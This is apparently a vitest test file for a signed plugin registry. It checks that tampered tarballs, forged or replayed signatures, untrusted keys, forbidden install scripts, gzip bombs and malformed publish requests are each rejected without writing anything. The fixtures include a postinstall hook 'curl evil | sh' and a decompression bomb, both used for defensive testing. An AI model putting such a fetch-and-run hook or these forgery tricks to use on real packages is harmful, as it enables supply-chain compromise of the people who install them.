/**
 * Publish rejections (REGISTRY.md §6.2, §11 classes 1–3, 14–17, 21 at the registry): each
 * returns the named code and writes nothing — no blob file, no row, no log leaf.
 */
import { gzipSync } from "node:zlib";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { toBase64 } from "@agentgov/registry-protocol";
import {
  call, createPublisher, errorCode, newKey, packPlugin, publishPlugin, resign, signRawTarball, snapshot, startRegistry,
  type SignedPlugin, type TestKey, type TestRegistry,
} from "../testing/harness.js";

let reg: TestRegistry;
let acme: { key: TestKey; token: string };
let other: { key: TestKey; token: string };
let base: SignedPlugin;

beforeAll(async () => {
  reg = await startRegistry();
  acme = await createPublisher(reg, "acme");
  other = await createPublisher(reg, "other");
  base = await packPlugin({ name: "@acme/tool", version: "1.0.0", publisher: "acme" }, [acme.key]);
  expect((await publishPlugin(reg, await packPlugin({ name: "@acme/util", version: "1.0.0", publisher: "acme" }, [acme.key]), acme.token)).status).toBe(201);
});
afterAll(async () => { await reg.close(); });

async function expectRejected(send: () => Promise<{ status: number; text: string }>, status: number, code: string): Promise<void> {
  const before = await snapshot(reg);
  const res = await send();
  expect(res.status, res.text).toBe(status);
  expect(errorCode(res as never)).toBe(code);
  expect(await snapshot(reg)).toEqual(before);
}

describe("publish rejections write nothing", () => {
  it("tarball byte flipped after signing → REGISTRY_DIGEST_MISMATCH", async () => {
    const tarball = new Uint8Array(base.tarball);
    tarball[tarball.length - 10] = (tarball[tarball.length - 10] ?? 0) ^ 0xff;
    await expectRejected(() => publishPlugin(reg, { ...base, tarball }, acme.token), 422, "REGISTRY_DIGEST_MISMATCH");
  });

  it("truncated or extended tarball → REGISTRY_DIGEST_MISMATCH", async () => {
    await expectRejected(() => publishPlugin(reg, { ...base, tarball: base.tarball.subarray(0, -1) }, acme.token), 422, "REGISTRY_DIGEST_MISMATCH");
    await expectRejected(() => publishPlugin(reg, { ...base, tarball: new Uint8Array([...base.tarball, 0]) }, acme.token), 422, "REGISTRY_DIGEST_MISMATCH");
  });

  it("another version's tarball under this envelope → REGISTRY_DIGEST_MISMATCH", async () => {
    const v2 = await packPlugin({ name: "@acme/tool", version: "1.0.1", publisher: "acme" }, [acme.key]);
    await expectRejected(() => publishPlugin(reg, { ...base, tarball: v2.tarball }, acme.token), 422, "REGISTRY_DIGEST_MISMATCH");
  });

  it("envelope name or version differs from the URL → REGISTRY_MANIFEST_INVALID", async () => {
    await expectRejected(() => publishPlugin(reg, base, acme.token, { name: "@acme/tool", version: "1.0.9" }), 422, "REGISTRY_MANIFEST_INVALID");
    await expectRejected(() => publishPlugin(reg, base, acme.token, { name: "@acme/other", version: "1.0.0" }), 422, "REGISTRY_MANIFEST_INVALID");
  });

  it("key unknown to the publisher, or bound to another publisher → REGISTRY_UNTRUSTED_KEY", async () => {
    const stranger = await packPlugin({ name: "@acme/tool", version: "1.0.0", publisher: "acme" }, [newKey()]);
    await expectRejected(() => publishPlugin(reg, stranger, acme.token), 422, "REGISTRY_UNTRUSTED_KEY");
    const foreign = await packPlugin({ name: "@acme/tool", version: "1.0.0", publisher: "acme" }, [other.key]);
    await expectRejected(() => publishPlugin(reg, foreign, acme.token), 422, "REGISTRY_UNTRUSTED_KEY");
  });

  it("keyid X with a signature by Y → REGISTRY_SIGNATURE_INVALID", async () => {
    const byOther = resign(base.manifest, [other.key]);
    const forged = { ...base.envelope, signatures: [{ keyid: acme.key.keyid, sig: byOther.signatures[0]?.sig ?? "" }] };
    await expectRejected(() => publishPlugin(reg, { ...base, envelope: forged }, acme.token), 422, "REGISTRY_SIGNATURE_INVALID");
  });

  it("a manifest signature replayed under another payload type → REGISTRY_PAYLOAD_TYPE", async () => {
    const replay = { ...base.envelope, payloadType: "application/vnd.agentgov.index.v1+json" };
    await expectRejected(() => publishPlugin(reg, { ...base, envelope: replay }, acme.token), 422, "REGISTRY_PAYLOAD_TYPE");
  });

  it("a name of another publisher's scope → 403", async () => {
    const theirs = await packPlugin({ name: "@other/tool", version: "1.0.0", publisher: "other" }, [acme.key]);
    await expectRejected(() => publishPlugin(reg, theirs, acme.token), 403, "REGISTRY_AUTH");
  });

  it("lifecycle scripts, bin or binding.gyp → REGISTRY_SCRIPTS_FORBIDDEN", async () => {
    const pkg = (extra: object): string => JSON.stringify({ name: "@acme/tool", version: "1.0.0", ...extra });
    for (const files of [
      [{ path: "package.json", data: pkg({ scripts: { postinstall: "curl evil | sh" } }) }, { path: "lib/index.js", data: "x" }],
      [{ path: "package.json", data: pkg({ bin: { x: "lib/index.js" } }) }, { path: "lib/index.js", data: "x" }],
      [{ path: "package.json", data: pkg({}) }, { path: "lib/index.js", data: "x" }, { path: "binding.gyp", data: "{}" }],
    ]) {
      const evil = await signRawTarball(base.manifest, files, [acme.key]);
      await expectRejected(() => publishPlugin(reg, evil, acme.token), 422, "REGISTRY_SCRIPTS_FORBIDDEN");
    }
  });

  it("package.json name or version differing from the manifest → REGISTRY_MANIFEST_INVALID", async () => {
    const files = [{ path: "package.json", data: JSON.stringify({ name: "@acme/tool", version: "9.9.9" }) }, { path: "lib/index.js", data: "x" }];
    const evil = await signRawTarball(base.manifest, files, [acme.key]);
    await expectRejected(() => publishPlugin(reg, evil, acme.token), 422, "REGISTRY_MANIFEST_INVALID");
  });

  it("a file missing from, or not in, the signed list → REGISTRY_TREE_MISMATCH", async () => {
    const files = [{ path: "package.json", data: JSON.stringify({ name: "@acme/tool", version: "1.0.0" }) }, { path: "lib/index.js", data: "x" }];
    const signed = await signRawTarball(base.manifest, files, [acme.key]);
    const extra = await signRawTarball(base.manifest, [...files, { path: "lib/extra.js", data: "y" }], [acme.key]);
    const manifest = { ...extra.manifest, files: extra.manifest.files.filter((f) => f.path !== "package/lib/extra.js") };
    await expectRejected(() => publishPlugin(reg, { ...extra, manifest, envelope: resign(manifest, [acme.key]) }, acme.token), 422, "REGISTRY_TREE_MISMATCH");
    const altered = { ...signed.manifest, files: signed.manifest.files.map((f) => (f.path === "package/lib/index.js" ? { ...f, exec: true } : f)) };
    await expectRejected(() => publishPlugin(reg, { ...signed, manifest: altered, envelope: resign(altered, [acme.key]) }, acme.token), 422, "REGISTRY_TREE_MISMATCH");
  });

  it("a gzip bomb is cut at the decompressed-byte cap → REGISTRY_ARCHIVE_LIMIT", async () => {
    const bomb = new Uint8Array(gzipSync(Buffer.alloc(64 * 1024 * 1024)));
    const evil = await signRawTarball(base.manifest, [{ path: "package.json", data: "{}" }, { path: "lib/index.js", data: "x" }], [acme.key]);
    const { sha512, toHex } = await import("@agentgov/registry-protocol");
    const digest = sha512(bomb);
    const manifest = { ...evil.manifest, artifact: { ...evil.manifest.artifact, size: bomb.byteLength, sha512: toHex(digest), integrity: `sha512-${toBase64(digest)}` } };
    await expectRejected(() => publishPlugin(reg, { manifest, tarball: bomb, envelope: resign(manifest, [acme.key]) }, acme.token), 413, "REGISTRY_ARCHIVE_LIMIT");
  });

  it("a dependency that is not on this registry, → REGISTRY_DEPENDENCY (class 21)", async () => {
    const missing = await packPlugin({ name: "@acme/tool", version: "1.0.0", publisher: "acme", dependencies: { "@acme/ghost": "^1.0.0" } }, [acme.key]);
    await expectRejected(() => publishPlugin(reg, missing, acme.token), 422, "REGISTRY_DEPENDENCY");
    const ok = await packPlugin({ name: "@acme/tool", version: "0.1.0", publisher: "acme", dependencies: { "@acme/util": "^1.0.0" } }, [acme.key]);
    expect((await publishPlugin(reg, ok, acme.token)).status).toBe(201);
  });

  it("a name confusable with an existing one → REGISTRY_MANIFEST_INVALID", async () => {
    const confusable = await packPlugin({ name: "@acme/u-til", version: "1.0.0", publisher: "acme" }, [acme.key]);
    await expectRejected(() => publishPlugin(reg, confusable, acme.token), 422, "REGISTRY_MANIFEST_INVALID");
  });

  it("malformed bodies: unknown field, non-canonical base64, invalid version in the URL → 400", async () => {
    await expectRejected(() => call(reg, "POST", "/v1/packages/@acme/tool/1.0.0", { envelope: base.envelope, tarball: toBase64(base.tarball), x: 1 }, acme.token), 400, "REGISTRY_REQUEST_INVALID");
    await expectRejected(() => call(reg, "POST", "/v1/packages/@acme/tool/1.0.0", { envelope: base.envelope, tarball: toBase64(base.tarball).replace(/=+$/, "") }, acme.token), 400, "REGISTRY_REQUEST_INVALID");
    await expectRejected(() => publishPlugin(reg, base, acme.token, { name: "@acme/tool", version: "01.0.0" }), 400, "REGISTRY_REQUEST_INVALID");
    await expectRejected(() => publishPlugin(reg, base, acme.token, { name: "@acme/tool", version: "1.0.0+b" }), 400, "REGISTRY_REQUEST_INVALID");
  });
});
